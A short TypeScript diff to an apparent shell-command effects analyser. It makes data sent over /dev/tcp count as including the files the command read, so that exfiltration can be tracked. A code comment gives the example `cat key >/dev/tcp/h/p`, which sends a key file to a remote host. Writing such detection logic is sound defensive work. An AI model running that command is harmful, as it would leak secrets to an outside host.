@@ -40,7 +40,10 @@ const cache = new WeakMap<ShellCommand, Effects>();
 export function effectsOf(cmd: ShellCommand): Effects {
   let e = cache.get(cmd);
   if (e === undefined) {
-    e = { writes: writeTargets(cmd), reads: readSources(cmd), deletes: deleteTargets(cmd), sends: sendsOf(cmd) };
+    const reads = readSources(cmd);
+    // what a command writes into /dev/tcp is what it read (`cat key >/dev/tcp/h/p`)
+    const sends = sendsOf(cmd).map((s) => (s.channel === 'dev-tcp' ? { ...s, files: [...new Set([...s.files, ...reads])] } : s));
+    e = { writes: writeTargets(cmd), reads, deletes: deleteTargets(cmd), sends };
     cache.set(cmd, e);
   }
   return e;
